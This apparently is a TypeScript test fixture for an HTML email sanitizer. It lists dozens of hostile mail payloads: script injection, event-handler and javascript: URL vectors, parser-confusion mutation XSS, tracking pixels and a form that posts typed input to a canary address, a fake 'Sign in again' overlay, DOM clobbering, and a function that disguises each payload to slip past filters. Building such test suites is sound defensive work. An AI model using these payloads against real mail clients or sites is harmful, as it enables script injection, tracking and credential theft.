/**
 * Mails that try to run, to tell their sender that they were opened, to submit, or to cover the desk. Written for these tests. CANARY is
 * replaced by an address that counts who asks; a script that runs calls `top.ran()` or `ran()` or asks the canary.
 */
const run = "(function(){try{top.ran&&top.ran()}catch(e){}try{fetch('CANARY/ran')}catch(e){}try{new Image().src='CANARY/ran'}catch(e){}try{document.title='ran'}catch(e){}})()";

export const hostileMails: readonly string[] = [
  // Plain scripts and where they hide.
  `<script>${run}</script>`, `<SCRIPT/x>${run}</SCRIPT>`, `<script src="CANARY/a.js"></script>`, `<script type="module">${run}</script>`, `<svg><script>${run}</script></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script>/*</script><script>*/${run}</script>`, `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`, `<xmp><p title="</xmp><script>${run}</script>"></xmp>`, `<textarea></textarea><script>${run}</script>`, `<title><a title="</title><script>${run}</script>">`,
  // Handlers.
  `<img src=x onerror="${run}">`, `<img src=x onerror=${run.replace(/\s/g, "")}>`, `<svg onload="${run}">`, `<body onload="${run}">`, `<body onpageshow="${run}">`, `<details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}">`, `<video><source onerror="${run}"></video>`, `<audio src=x onerror="${run}"></audio>`, `<marquee onstart="${run}">x</marquee>`, `<iframe onload="${run}"></iframe>`,
  `<div style="animation:a 1ms" onanimationstart="${run}"><style>@keyframes a{}</style></div>`, `<p onmouseover="${run}" style="position:fixed;inset:0">x</p>`, `<img/src/onerror="${run}">`, `<img src="x" \nonerror\n=\n"${run}">`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`, `<svg><set attributeName="onload" to="${run}"/></svg>`, `<object data=x onerror="${run}"></object>`, `<isindex onfocus="${run}" autofocus>`,
  // Addresses that run.
  `<a href="javascript:${run}" id="go">go</a>`, `<a href="jAvAsCrIpT:${run}">go</a>`, `<a href="java\nscript:${run}">go</a>`, `<a href="&#106;avascript:${run}">go</a>`, `<a href="\u00a0javascript:${run}">go</a>`, `<a href="\u0001javascript:${run}">go</a>`,
  `<a href="data:text/html,<script>${run}</script>">go</a>`, `<a href="vbscript:msgbox(1)">go</a>`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.parent.ran&&parent.parent.ran();${run}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>${run}</script>"></iframe>`, `<embed src="javascript:${run}">`, `<object data="javascript:${run}"></object>`, `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>go</text></a></svg>`, `<math><maction actiontype="statusline" xlink:href="javascript:${run}">go</maction></math>`, `<form action="javascript:${run}"><button>go</button></form>`,
  `<form><button formaction="javascript:${run}">go</button></form>`, `<area href="javascript:${run}">`, `<base href="javascript:/a/"><a href="${run}">go</a>`,
  // Parsers that disagree.
  `<math><mi><mglyph><style><img src=x onerror="${run}"></style></mglyph></mi></math>`, `<svg></p><style><a id="</style><img src=x onerror=${run}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<table><td><svg><desc><table><tr><td><style><img src=x onerror="${run}"></style></table></desc></svg></table>`, `<!--><img src=x onerror="${run}">-->`, `<![CDATA[<img src=x onerror="${run}">]]>`, `<p title='--!><img src=x onerror="${run}">'>`, `<select><style></select><img src=x onerror="${run}"></style>`,
  // Telling that it was opened, and sending what was typed.
  `<img src="CANARY/pixel.gif">`, `<img srcset="CANARY/set.gif 1x">`, `<picture><source srcset="CANARY/p.gif"><img></picture>`, `<div style="background:url(CANARY/bg.gif)">x</div>`, `<table background="CANARY/table.gif"><tr><td>x</td></tr></table>`, `<style>@import "CANARY/i.css";</style>`,
  `<style>@font-face{font-family:x;src:url(CANARY/f.woff2)}p{font-family:x}</style><p>x</p>`, `<link rel="stylesheet" href="CANARY/l.css">`, `<link rel="preload" as="image" href="CANARY/pre.gif">`, `<link rel="dns-prefetch" href="CANARY"><link rel="prefetch" href="CANARY/pf">`,
  `<video poster="CANARY/v.gif" src="CANARY/v.mp4" autoplay></video>`, `<iframe src="CANARY/frame"></iframe>`, `<object data="CANARY/o.svg"></object>`, `<embed src="CANARY/e.svg">`, `<input type="image" src="CANARY/in.gif">`, `<svg><image href="CANARY/s.gif" /><use href="CANARY/u.svg#a"/></svg>`,
  `<meta http-equiv="refresh" content="0;url=CANARY/refresh">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<base href="CANARY/"><img src="b.gif">`, `<form action="CANARY/form" method="post"><input name="p"><button id="go">Sign in</button></form>`,
  // Covering the desk, standing in for its names.
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again</div>`, `<img name="getElementById"><form id="body"><input name="parentNode"></form>`, `<a target="_top" href="CANARY/top" id="go">go</a>`, `<a target="_parent" href="CANARY/parent" id="go">go</a>`,
];

/** The same in other clothes: letters, breaks and broken tags that filters trip over and browsers forgive. */
export function disguise(mail: string): string[] {
  return [
    mail.toUpperCase().replaceAll("CANARY", "CANARY"), mail.replaceAll("<", "<\u0000"), mail.replace(/<(\w+)/g, "<$1/"), mail.replace(/(on\w+)=/g, "$1\t="), `<p>${mail}`, `<div><table><tr>${mail}`, mail.replaceAll('"', "'"), mail.replace(/>$/, ""), `</div></body>${mail}`,
    `<svg><foreignObject>${mail}</foreignObject></svg>`, `<math><annotation-xml encoding="text/html">${mail}</annotation-xml></math>`, `<!--[if mso]>${mail}<![endif]-->${mail}`,
  ];
}
